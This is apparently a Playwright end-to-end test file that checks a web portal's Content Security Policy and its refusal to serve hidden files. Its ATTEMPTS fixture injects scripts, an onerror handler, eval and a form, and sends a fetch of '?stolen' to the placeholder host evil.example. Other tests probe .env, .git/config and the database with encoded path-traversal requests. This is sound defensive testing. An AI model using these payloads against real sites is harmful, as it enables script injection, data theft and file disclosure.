"""The browser itself reports what a page's policy forbids: on every page, in whatever it does, nothing."""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from portal_app import build
from tests.e2e.people import ADMIN, CUSTOMER, OPERATOR, People, ready, sign_in

WATCH = """() => { window.broken = []; addEventListener('securitypolicyviolation',
  (event) => window.broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`)); }"""
# In tasks of their own: within its own evaluation the browser's driver lets `eval` through.
ATTEMPTS = """async () => {
  const later = (what) => new Promise((done) => setTimeout(() => { try { what() } catch {} done() }, 0));
  const add = (more) => document.body.append(Object.assign(document.createElement('script'), more));
  await later(() => add({ textContent: 'window.ran = 1' }));
  await later(() => add({ src: 'https://evil.example/x.js' }));
  await later(() => document.body.insertAdjacentHTML('beforeend',
    '<img src="data:," onerror="window.ran = 2"><form action="https://evil.example/"></form>'));
  await later(() => { window.ran = (0, eval)('3'); });
  await later(() => document.forms[document.forms.length - 1].submit());
  await fetch('https://evil.example/?stolen').catch(() => 0);
}"""


HIDDEN = ("/.made-of", "/.git/config", "/.env", "/assets/", "/assets", "/portal.db", "/..%2f..%2fportal.db", "/.vite/x")


def watched(people: People, email: str, path: str) -> Page:
    """A page that keeps what its policy stopped, from its first byte on. The console's errors fail the test too."""
    profile = people.profile(email)
    profile.add_init_script(f"({WATCH})()")
    page = profile.new_page()
    page.goto(path)
    return page


def policy_kept(page: Page) -> None:
    assert page.evaluate("window.broken") == []


@pytest.mark.parametrize("email", [ADMIN, OPERATOR, ""], ids=["admin", "operator", "nobody"])
def test_no_page_needs_what_its_policy_forbids(people: People, email: str) -> None:
    """Each page that the build wrote, opened by its address; and one that there is not."""
    people.expect_fault(r"404")
    folder = build.CLIENT
    built = sorted(f"/{one.parent.relative_to(folder)}".removesuffix(".") for one in folder.rglob("index.html"))
    assert {"/", "/login", "/accounts/new"} <= set(built)
    page = watched(people, email, "/")
    for path in [*built, "/no/such/page"]:
        page.goto(path)
        expect(page.locator("h1").first, path).to_be_visible()
        policy_kept(page)


def test_working_through_the_portal_needs_nothing_more(people: People) -> None:
    """Sign-in, live rows, dialogs, colour mode, the search, going from page to page, a download, a file, sign-out."""
    page = watched(people, "", "/login")
    sign_in(page, ADMIN)
    ready(page)
    page.get_by_role("button", name="Dark").or_(page.get_by_role("button", name="dark")).first.click()
    page.keyboard.press("/")
    page.keyboard.type("a")
    policy_kept(page)
    page.goto("/accounts/import")
    with page.expect_download() as started:
        page.get_by_role("link", name="template").first.click()
    assert started.value.failure() is None
    policy_kept(page)
    page.get_by_role("link", name="Dashboard").first.click()
    ready(page)
    policy_kept(page)
    page.get_by_role("button", name="Log Out").click()
    page.wait_for_url(lambda url: urlsplit(url).path.startswith("/login"))
    policy_kept(page)


def test_a_customers_account_opened_by_its_address(people: People) -> None:
    """Its page is none of the built files: the server answers with the shell of all."""
    page = watched(people, CUSTOMER, "/")
    page.wait_for_url("**/accounts/*")
    page.reload()
    expect(page.locator("h1").first).to_be_visible()
    policy_kept(page)


def test_foreign_scripts_do_not_run(people: People) -> None:
    """Or the tests above would pass without a policy."""
    people.expect_fault("Content Security Policy|csp")
    page = watched(people, ADMIN, "/")
    ready(page)
    page.evaluate(ATTEMPTS)
    for directive in ("script-src-elem", "script-src-attr", "script-src", "connect-src", "form-action"):
        page.wait_for_function("(name) => window.broken.some((one) => one.startsWith(name + ' '))", arg=directive)
    assert page.evaluate("window.ran ?? 0") == 0


@pytest.mark.parametrize("path", [*HIDDEN, "/%2e%2e/%2e%2e/rxconfig.py", "/assets/..%2f..%2f..%2frxconfig.py"])
def test_only_the_pages_files_are_served(people: People, path: str) -> None:
    """No hidden file, no list of a folder, nothing from beside the build."""
    assert people.profile().request.get(path).status == 404
